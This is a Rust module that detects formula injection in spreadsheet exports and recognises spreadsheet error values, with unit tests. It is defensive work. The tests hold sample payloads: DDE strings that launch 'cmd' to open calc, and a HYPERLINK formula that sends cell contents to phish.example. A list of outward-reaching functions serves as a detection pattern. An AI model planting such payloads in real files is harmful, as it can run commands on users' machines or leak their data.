//! What a spreadsheet would run when it opens our export, and what it wrote when a formula failed.
//!
//! Exports escape such cells too (`app` writes them as text); a title that is a formula is nobody's title.

/// Whether a cell with this text would be run, by the sign at its beginning and what follows.
///
/// A dash, a plus or an at sign is honest in front of a word or number: `- noon`, `+352 26 00 00`, `-10 °C`,
/// `@kaleido`. Behind one, a formula has a function call, a channel to another program or a calculation.
pub(super) fn is_formula(text: &str) -> bool {
    let mut characters = text.chars();
    match characters.next() {
        Some('=' | '＝') => true,
        Some('+' | '-' | '@' | '＋' | '－' | '＠' | '−') => {
            let rest = characters.as_str();
            calls_function(rest) || opens_channel(rest) || calculates(rest)
        }
        _ => false,
    }
}

/// Whether the text is nothing but a failed formula, or the fence that stands for a number too wide.
///
/// Only the whole text: whoever offers help with `#REF!` in a spreadsheet may say so.
pub(super) fn is_error(text: &str) -> bool {
    const ERRORS: [&str; 22] = [
        "#REF!",
        "#NAME?",
        "#VALUE!",
        "#N/A",
        "#DIV/0!",
        "#NULL!",
        "#NUM!",
        "#SPILL!",
        "#CALC!",
        "#FIELD!",
        "#BLOCKED!",
        "#CONNECT!",
        "#ERROR!",
        "#BEZUG!",
        "#WERT!",
        "#NV",
        "#ZAHL!",
        "#VALEUR!",
        "#NOM?",
        "#NOMBRE!",
        "#ÜBERLAUF!",
        "#PROPAGATION!",
    ];
    let text = text.trim();
    let fence = text.len() >= 3 && text.bytes().all(|b| b == b'#');
    let code =
        text.strip_prefix("Err:").is_some_and(|n| n.len() == 3 && n.bytes().all(|b| b.is_ascii_digit()));
    fence || code || ERRORS.iter().any(|error| error.eq_ignore_ascii_case(text))
}

/// `SUM(`, `cmd(`: a name in capitals directly before a parenthesis, or a function known to reach outside.
fn calls_function(rest: &str) -> bool {
    const REACHING: [&str; 9] = [
        "hyperlink",
        "webservice",
        "importxml",
        "importdata",
        "importhtml",
        "importrange",
        "dde",
        "cmd",
        "sum",
    ];
    let Some((name, _)) = rest.trim_start().split_once('(') else {
        return false;
    };
    let is_name = name.len() > 1 && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'_');
    let capitals = is_name && !name.bytes().any(|b| b.is_ascii_lowercase()) && !rest.starts_with(' ');
    capitals || REACHING.iter().any(|known| known.eq_ignore_ascii_case(name))
}

/// `cmd|' /C calc'!A0`: a program, a bar, a topic and an exclamation mark.
fn opens_channel(rest: &str) -> bool {
    rest.split_once('|').is_some_and(|(program, topic)| {
        program.ends_with(|c: char| c.is_ascii_alphanumeric()) && topic.contains('!')
    })
}

/// `2+5`, `A1*3`: an operator between two operands in the first word. A minus and a slash are left out,
/// because telephone numbers, ranges and fractions have them.
fn calculates(rest: &str) -> bool {
    let word = rest.split(char::is_whitespace).next().unwrap_or_default();
    let is_operand = |c: Option<char>| c.is_some_and(|c| c.is_ascii_digit() || matches!(c, '(' | ')' | '$'));
    word.match_indices(['+', '*', '^', '&']).any(|(at, operator)| {
        let before = word.get(..at).and_then(|part| part.chars().next_back());
        let after = word.get(at + operator.len()..).and_then(|part| part.chars().next());
        is_operand(before) && (is_operand(after) || after.is_some_and(|c| c.is_ascii_alphabetic()))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(judge: fn(&str) -> bool, expected: bool, texts: &[&str]) {
        for text in texts {
            assert_eq!(judge(text), expected, "{text:?}");
        }
    }

    #[test]
    fn formulas_are_found() {
        check(
            is_formula,
            true,
            &[
                "=HYPERLINK(\"https://phish.example/?r=\"&A2;\"Deux tables\")",
                "=1",
                "＝1+1",
                "@SUM(1+1)*cells(2,15)",
                "+2+5+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "-cmd|' /C calc'!A0",
                "+SUM(A1:A9)",
                "-IMPORTXML(A1;B1)",
                "- hyperlink(\"x\")",
                "+A1*3",
                "-(1)*2",
            ],
        );
    }

    #[test]
    fn signs_before_words_are_honest() {
        check(
            is_formula,
            false,
            &[
                "- noon: we explain everything",
                "- Atelier(s) de peinture",
                "-Chaise(s) pliante(s)",
                "- ASBL(s) bienvenues",
                "-10 °C",
                "-5 à +5 °C",
                "+352 26 00 00",
                "+352-26-00-00",
                "+49 (0)651/12345",
                "+ de bénévoles",
                "+1/2 h",
                "@kaleido",
                "@home | wir kommen vorbei!",
                "– ein Gedankenstrich",
                "a=b",
                "1+1",
                "",
            ],
        );
    }

    #[test]
    fn failed_formulas_are_errors() {
        check(
            is_error,
            true,
            &["#REF!", "#NAME?", "#VALUE!", "#N/A", "#DIV/0!", "#ref!", "#BEZUG!", "#VALEUR!"],
        );
        check(is_error, true, &["#####", "Err:502", " #REF! "]);
        check(
            is_error,
            false,
            &["Hilfe bei #REF! in Tabellen", "#kaleido", "#1", "##", "Err: 502", "Err:1", ""],
        );
    }
}
